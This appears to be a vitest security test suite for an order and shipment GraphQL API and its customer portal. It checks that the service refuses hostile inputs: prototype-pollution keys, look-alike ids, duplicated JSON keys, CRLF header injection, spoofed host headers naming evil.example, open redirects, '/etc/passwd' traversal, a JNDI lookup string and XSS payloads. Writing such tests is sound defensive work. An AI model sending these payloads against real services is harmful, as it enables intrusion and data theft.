import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { type Hostile, jsonAs, startHostile } from './hostile-bench.ts'
import { signIn } from './portal-visitor.ts'
import { expectClean, expectRefused } from './probe.ts'
import { requestText, sendRaw } from './raw-socket.ts'

/** Names, ids and bodies that look like others, mean something to JavaScript, or mean two things. */

let company: Hostile

beforeAll(async () => {
  company = await startHostile()
})
afterEach(() => company.expectAlive())
afterAll(() => company.stop())

const everyObjectHas = [
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'valueOf',
    'hasOwnProperty',
    '__defineSetter__',
    'then',
    'length',
  ],
] as const

const answersOf = (key: string, id: string) =>
  company.ask(
    key,
    `query ($id: ID!) { node(id: $id) { id } order(id: $id) { id } shipment(id: $id) { id } trackingLinks(shipment: $id) { url } }`,
    { id },
  )

describe('a name every object has', () => {
  test.each(everyObjectHas)('%s is no type, no key, no entity, no filter', async (name) => {
    const key = company.keys['customer-service']
    for (const id of [`${name}:1`, `Order:${name}`, name, `${name}:${name}`]) {
      expectRefused(await answersOf(key, id), 'ID_INVALID', 'ID_TYPE_MISMATCH', 'NOT_FOUND')
    }
    const entities = 'query ($of: [_Any!]!) { _entities(representations: $of) { __typename } }'
    const of = `[{"__typename":"${name}","id":"Order:1"},{"__typename":"Order","${name}":"S00042"},{"__typename":"Order","id":"Order:${name}"}]`
    const answer = await company.post(key, `{"query":${JSON.stringify(entities)},"variables":{"of":${of}}}`)
    expect((answer.body as { data?: unknown }).data).toEqual({ _entities: [null, null, null] })
    for (const code of answer.codes) expect(['ARGUMENT_INVALID', 'ID_INVALID', 'NOT_FOUND']).toContain(code)
    expectRefused(
      await company.ask(key, `{ orders(filter: { states: [${name}] }) { totalCount } }`),
      'GRAPHQL_VALIDATION_FAILED',
    )
    expectRefused(
      await company.ask(key, 'query ($s: [OrderState!]) { orders(filter: { states: $s }) { totalCount } }', {
        s: [name],
      }),
      'ARGUMENT_INVALID',
    )
    expectRefused(
      await company.ask(key, `{ node(id: "Order:1") { ... on ${name} { id } } }`),
      'GRAPHQL_VALIDATION_FAILED',
    )
    expectRefused(await company.ask(key, `{ __typename @${name} }`), 'GRAPHQL_VALIDATION_FAILED')
    expectRefused(await company.ask(key, `{ ${name} }`), 'GRAPHQL_VALIDATION_FAILED')
    expectRefused(await company.ask(key, `{ ...${name} }`), 'GRAPHQL_VALIDATION_FAILED')
  })

  test.each(everyObjectHas)('%s is no operation, no connection, no page, no document', async (name) => {
    const query = 'query A { __typename }'
    const answer = await company.post(company.keys.customer, JSON.stringify({ query, operationName: name }))
    expect(answer.codes.length).toBe(1)
    expect((answer.body as { data?: unknown }).data ?? null).toBeNull()
    const named = await company.post(company.keys.customer, JSON.stringify({ query: `query ${name} { __typename }` }))
    expect(named.body).toMatchObject({ data: { __typename: 'Query' } })
    const json = { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } }
    for (const [path, init] of [
      [`/webhooks/connections/${name}`, json],
      [`/webhooks/${name}`, json],
      [`/odoo/${name}/1`, {}],
      [`/documents/${name}`, {}],
      [`/portal/assets/${name}`, {}],
      [`/${name}`, {}],
    ] as const) {
      expect([path, (await company.probe(path, init)).status]).toEqual([path, 404])
    }
    const operator = company.keys.operator
    const operations = `{ deadLetters(filter: { connection: "${name}" }) { totalCount } auditTrail(object: "${name}/1") { id } }`
    expectClean(await company.ask(operator, operations))
    const mutation = `mutation { compareStock(connection: "${name}") { queued } }`
    expect((await company.ask(operator, mutation)).body).toMatchObject({ data: { compareStock: { queued: false } } })
    const exported = await company.probe(`/export/epcis?${name}=1&since[${name}]=1`, {
      headers: { authorization: `Bearer ${operator}` },
    })
    expect(exported.status).toBe(400)
  })

  test('in a form of the portal is none of its fields', async () => {
    const visitor = await signIn(company.url, company.keys.customer)
    const form = await visitor.form()
    for (const name of everyObjectHas) {
      const fields = new URLSearchParams({
        form,
        zone: 'Asia/Tokyo',
        [name]: 'x',
        [`${name}.${name}`]: 'x',
        [`${name}[]`]: 'x',
      })
      expect((await visitor.post('/time-zone', fields)).status).toBe(303)
      expect((await visitor.post('/time-zone', { form, zone: name })).status).toBeLessThan(400)
      for (const path of [
        `/shipments?state=${name}`,
        `/shipments?after=${name}`,
        `/search?q=${name}`,
        `/shipments/${name}`,
      ]) {
        expect((await visitor.page(path)).status).toBeLessThan(500)
      }
      expect((await visitor.page(`/shipments/45/documents/${name}/1`)).status).toBe(404)
    }
    expect(({} as Record<string, unknown>).x).toBeUndefined()
  })
})

describe('an id that looks like one', () => {
  test.each([
    ['of Cyrillic letters', 'Оrder:42'],
    ['of full-width letters', 'Ｏｒｄｅｒ:42'],
    ['with full-width digits', 'Order:４２'],
    ['with Arabic digits', 'Order:٤٢'],
    ['with a mathematical digit', 'Order:𝟒𝟐'],
    ['with another colon', 'Order：42'],
    ['with a space of no width', 'Order:\u200b42'],
    ['with a joiner of no width', 'Or\u200dder:42'],
    ['with a mark of the right-to-left', '\u202eOrder:42'],
    ['with a mark of the byte order', '\ufeffOrder:42'],
    ['with a soft hyphen', 'Order:4\u00ad2'],
    ['with a space before', ' Order:42'],
    ['with a tab behind', 'Order:42\t'],
    ['with a zero byte', 'Order:42\0'],
    ['with a zero before', 'Order:042'],
    ['with a plus', 'Order:+42'],
    ['as a fraction', 'Order:42.0'],
    ['as a power', 'Order:4.2e1'],
    ['in hexadecimal', 'Order:0x2a'],
    ['with a line under', 'Order:4_2'],
    ['with half a character', 'Order:42\ud800'],
    ['with the other half', '\udfffOrder:42'],
    ['with a combining letter', 'Order:42\u0301'],
    ['twice', 'Order:42Order:42'],
    ['two at once', 'Order:42,Order:1'],
    ['a list of Odoo', 'Order:[42]'],
    ['with a condition', 'Order:42 OR 1=1'],
    ['written for an address', 'Order%3A42'],
  ])('%s is none', async (_what, id) => {
    for (const key of [company.keys.admin, company.keys.customer]) {
      expectRefused(await answersOf(key, id), 'ID_INVALID', 'ID_TYPE_MISMATCH', 'NOT_FOUND')
      const entities = 'query ($of: [_Any!]!) { _entities(representations: $of) { ... on Node { id } } }'
      const answer = await company.ask(key, entities, {
        of: [
          { __typename: 'Order', id },
          { __typename: id, id: 'Order:42' },
        ],
      })
      expect((answer.body as { data: unknown }).data).toEqual({ _entities: [null, null] })
    }
  })

  test.each([
    'Ѕ00042',
    'S０００42',
    'S000\u200b42',
    'S00042\0',
    '\u202eS00042',
    'S00042\ud800',
    's00042',
    'S0004_',
    'S00042%',
  ])('of a number is none: %j', async (number) => {
    const query = 'query ($n: String) { order(number: $n) { id } }'
    expectRefused(await company.ask(company.keys.admin, query, { n: number }), 'NOT_FOUND', 'ARGUMENT_INVALID')
  })

  test('as a number, a list, an object or nothing is none', async () => {
    for (const id of [42, 4.2, true, null, ['Order:42'], { id: 'Order:42' }, [[['Order:42']]], '']) {
      expectRefused(await answersOf(company.keys.admin, id as string), 'ID_INVALID', 'ARGUMENT_INVALID')
    }
  })
})

describe('a body that means two things', () => {
  const harmless = '{ __typename }'
  const harmful = '{ apiKeys { id } }'

  test.each([
    ['two queries', `{"query":"${harmless}","query":"${harmful}"}`],
    ['two queries, the other way round', `{"query":"${harmful}","query":"${harmless}"}`],
    ['a query that is escaped', `{"query":"${harmless}","\\u0071uery":"${harmful}"}`],
    [
      'two variables',
      `{"query":"query ($id: ID!) { order(id: $id) { number } }","variables":{"id":"ORDER","id":"THEIRS"}}`,
    ],
  ])('%s: one is taken, and what it needs is asked of it', async (_what, text) => {
    const body = text.replace('ORDER', company.mine.order).replace('THEIRS', company.theirs.order)
    const answer = await company.post(company.keys.customer, body)
    expect(answer.text).not.toContain('ApiKey:')
    expect(answer.text).not.toContain(company.theirs.number)
  })

  test.each([
    ['with a mark of the byte order', `\ufeff{"query":"${harmless}"}`, {}],
    ['in UTF-16', Buffer.from(`{"query":"${harmless}"}`, 'utf16le'), {}],
    ['said to be in UTF-16', `{"query":"${harmless}"}`, { 'content-type': 'application/json; charset=utf-16' }],
    ['said to be in UTF-7', `{"query":"${harmless}"}`, { 'content-type': 'application/json; charset=utf-7' }],
    ['with bytes that are no UTF-8', Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]), {}],
    ['with something behind', `{"query":"${harmless}"} {"query":"${harmful}"}`, {}],
    ['that is nothing', '', {}],
    ['that is null', 'null', {}],
    ['that is a number', '1e999', {}],
    ['that is a text', '"query"', {}],
    ['that is a batch', `[{"query":"${harmless}"},{"query":"${harmful}"}]`, {}],
    ['that is a batch of batches', `[[{"query":"${harmless}"}]]`, {}],
    ['that is a list that looks like an object', `{"0":{"query":"${harmless}"},"length":1}`, {}],
    ['whose query is a list', `{"query":["${harmless}"]}`, {}],
    ['whose query is an object', `{"query":{"toString":"${harmless}"}}`, {}],
    ['whose variables are a text', `{"query":"${harmless}","variables":"{}"}`, {}],
    ['whose variables are a list', `{"query":"${harmless}","variables":[]}`, {}],
    ['whose operation is a number', `{"query":"${harmless}","operationName":1}`, {}],
    ['whose extensions are a list', `{"query":"${harmless}","extensions":[]}`, {}],
    ['with comments', `{/* */"query":"${harmless}"}`, {}],
    ['with single quotes', `{'query':'${harmless}'}`, {}],
    ['that is a form', `query=${harmless}`, { 'content-type': 'application/x-www-form-urlencoded' }],
    ['that is GraphQL itself', harmless, { 'content-type': 'application/graphql' }],
    ['that is a file', '--x\r\n\r\n--x--', { 'content-type': 'multipart/form-data; boundary=x' }],
    ['that is a file without a boundary', '--x', { 'content-type': 'multipart/form-data' }],
    ['of two types', `{"query":"${harmless}"}`, { 'content-type': 'text/plain, application/json' }],
    ['of a type that begins alike', `{"query":"${harmless}"}`, { 'content-type': 'application/jsonp' }],
    ['of a type that is none', `{"query":"${harmless}"}`, { 'content-type': '\u00e4/;;=' }],
  ] as readonly (readonly [string, BodyInit, Record<string, string>])[])(
    '%s is refused, or read as what it is',
    async (_what, body, headers) => {
      const answer = await company.post(company.keys.customer, body as BodyInit, headers)
      if (answer.status === 200) expect(answer.body).toMatchObject({ data: { __typename: 'Query' } })
      else expect([400, 415]).toContain(answer.status)
      expect(answer.text).not.toContain('ApiKey:')
      // Files and forms are what a page of another site can send.
      if (/form|plain|application\/graphql/.test(headers['content-type'] ?? '')) expect(answer.status).toBe(415)
    },
  )

  test.each([
    ['two queries', `query=${harmless}&query=${harmful}`],
    ['a list of queries', `query[]=${harmful}`],
    ['a query of a query', `query[query]=${harmful}`],
    ['two variables', 'query=query($id:ID!){order(id:$id){number}}&variables={"id":"ORDER"}&variables={"id":"THEIRS"}'],
    ['variables that are none', `query=${harmless}&variables={`],
    ['an address cut in a letter', 'query=%E0%A4%A'],
    ['an address with a zero byte', 'query=%00'],
    ['a mutation', 'query=mutation{compareStock(connection:"x"){queued}}'],
    [
      'a mutation beside a query',
      'query=query A{__typename} mutation B{compareStock(connection:"x"){queued}}&operationName=B',
    ],
    ['a subscription', 'query=subscription{orderChanged(id:"THEIRS"){number}}'],
  ])('by GET, %s: nothing of anybody else, and nothing is done', async (_what, search) => {
    const address = encodeURI(search.replace('ORDER', company.mine.order).replace('THEIRS', company.theirs.order))
      .replaceAll('%25E0%25A4%25A', '%E0%A4%A')
      .replaceAll('%2500', '%00')
    const headers = { authorization: `Bearer ${company.keys.customer}` }
    const answer = await company.probe(`/graphql?${address}`, { headers })
    expect(answer.text).not.toContain('ApiKey:')
    expect(answer.text).not.toContain(company.theirs.number)
    if (search.includes('mutation')) expect(answer.status).toBe(405)
  })

  test('a query in the address is none beside a body', async () => {
    const search = new URLSearchParams({ query: harmful })
    const body = JSON.stringify({ query: harmless })
    const init = { method: 'POST', headers: jsonAs(company.keys.admin), body }
    const answer = await company.probe(`/graphql?${search}`, init)
    expect(answer.text).not.toContain('ApiKey:')
  })
})

describe('what is sent back', () => {
  test.each([
    'a\r\nset-cookie: x=1',
    'a%0d%0aset-cookie:x=1',
    'x'.repeat(65),
    '<script>',
    'a b',
    'ä',
    '"',
    '%{jndi:ldap://evil.example/x}',
    '',
  ])('is never an id of a request that was made up: %j', async (id) => {
    const headers = Object.entries(jsonAs(company.keys.customer))
    const body = JSON.stringify({ query: '{ __typename }' })
    const { text } = await sendRaw(company.url, requestText('POST /graphql', [...headers, ['x-request-id', id]], body))
    const sent = /^x-request-id: (.*)\r$/im.exec(text)?.[1]
    if (!id.startsWith('a\r\n')) expect(sent).toMatch(/^[0-9a-f-]{36}$/)
    expect(text.toLowerCase()).not.toContain('set-cookie')
  })

  test.each([
    ['host', 'evil.example'],
    ['x-forwarded-host', 'evil.example'],
    ['x-forwarded-proto', 'javascript'],
    ['x-forwarded-for', '127.0.0.1, evil.example'],
    ['x-original-url', '/metrics'],
    ['x-rewrite-url', '/metrics'],
    ['forwarded', 'host=evil.example;proto=https'],
    ['referer', 'https://evil.example/'],
  ])('is not what %s says', async (name, value) => {
    const key = ['authorization', `Bearer ${company.keys.admin}`] as const
    const documents = encodeURI('{ order(number: "S00042") { shipments { documents { url } } } }')
    for (const start of [
      'GET /',
      'GET /portal/shipments',
      'GET /odoo/sale.order/42',
      `GET /graphql?query=${documents}`,
      'GET /none',
    ]) {
      const request = requestText(start, [[name, value], key]).replace(
        name === 'host' ? /host: graph[^\r]*\r\n/ : /$^/,
        '',
      )
      const { text } = await sendRaw(company.url, request)
      expect(text).not.toContain('evil.example')
      expect(text).not.toMatch(/^location: (?!\/)/im)
      expect(text).not.toContain('# HELP')
    }
  })

  test.each([
    '//evil.example',
    '/\\evil.example',
    '/portal//evil.example',
    '/portal/%2f%2fevil.example',
    '/portal/shipments%0d%0aset-cookie:x=1',
    '/portal/shipments?next=//evil.example',
    '/portal/../../evil',
    '/portal/return?number=%0d%0aset-cookie:x=1',
    '/portal/search?q=%0d%0alocation:%20//evil.example',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/..;/metrics',
    '/documents/..%2f..%2fetc%2fpasswd',
    '/portal/assets/..%2fportal.ts',
    '/portal/assets/%2e%2e%2fportal.ts',
    '/odoo/sale.order/1%22',
    '/%00',
    '/%ff%fe',
    '/%',
    '/portal/shipments/%E0%A4%A',
    '/webhooks/connections/%E0%A4%A',
    `/${'a/'.repeat(2_000)}`,
  ])('leads nowhere else: %s', async (path) => {
    const { text, status } = await sendRaw(company.url, requestText(`GET ${path}`))
    expectClean({ status, text })
    const [head = ''] = text.split('\r\n\r\n')
    expect(head.toLowerCase()).not.toMatch(/set-cookie: x|location: (\/\/|\/\\|https?:)/)
    expect(text).not.toMatch(/root:|createPortal/)
  })

  test('after signing in is a page of the portal, whatever the form says', async () => {
    for (const next of [
      '/portal/\r\nset-cookie: x=1',
      '/portal/%0d%0ax',
      '/portal//evil.example',
      '/portal/\\evil.example',
    ]) {
      const visitor = await signIn(company.url, company.keys.customer)
      const reply = await visitor.post('/sign-in', { form: await visitor.form(), key: company.keys.customer, next })
      const location = reply.headers.get('location') ?? '/'
      expect(new URL(location, company.url).origin).toBe(company.url)
      expect(location).toMatch(/^\/portal/)
    }
  })

  test('is text on a page of the portal, whatever was looked for', async () => {
    const visitor = await signIn(company.url, company.keys.customer)
    for (const searched of [
      '<script>alert(1)</script>',
      '"><img src=x onerror=alert(1)>',
      "'-alert(1)-'",
      '{{7*7}}',
      '<%= 7*7 %>',
    ]) {
      const { text, status } = await visitor.page(`/search?q=${encodeURIComponent(searched)}`)
      expect(status).toBe(200)
      expect(text).not.toMatch(/<script>alert|<img src=x|\b49\b/)
    }
  })
})

describe('a form of the portal', () => {
  test.each([
    ['a file without a boundary', 'multipart/form-data', 'x'],
    [
      'a file that breaks off',
      'multipart/form-data; boundary=x',
      '--x\r\ncontent-disposition: form-data; name="key"\r\n\r\n',
    ],
    ['a file that is none', 'multipart/form-data; boundary=x', 'nonsense'],
    ['JSON', 'application/json', '{"key":"x"}'],
    ['nothing', 'application/x-www-form-urlencoded', ''],
    ['per cents', 'application/x-www-form-urlencoded', '%%%&%E0%A4%A=%&&&=='],
    ['ten thousand fields', 'application/x-www-form-urlencoded', 'a=1&'.repeat(10_000)],
    ['a name of ten thousand brackets', 'application/x-www-form-urlencoded', `${'a[b]'.repeat(10_000)}=1`],
    ['no type', '', 'key=x'],
  ])('with %s is refused', async (_what, type, body) => {
    const visitor = await signIn(company.url, company.keys.customer)
    for (const path of ['/sign-in', '/sign-out', '/time-zone', '/shipments/45/return']) {
      const { status } = await company.probe(`/portal${path}`, {
        method: 'POST',
        headers: { origin: company.url, cookie: visitor.cookie(), ...(type && { 'content-type': type }) },
        body,
      })
      expect(status).toBeGreaterThanOrEqual(400)
    }
  })
})
